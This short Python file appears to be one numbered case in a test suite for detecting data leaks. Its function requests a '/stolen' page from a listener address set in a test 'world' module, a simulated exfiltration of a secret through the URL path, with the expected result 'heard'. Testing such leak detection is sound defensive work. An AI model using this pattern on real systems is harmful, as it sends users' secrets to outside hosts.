"""Asks a web server for a page that is called like the secret.

number = 11
shows = "heard"
"""

import urllib.request

from .world import TCP


def attempt():
    return urllib.request.urlopen(f'http://{TCP[0]}:{TCP[1]}/stolen', timeout=0.5).read()
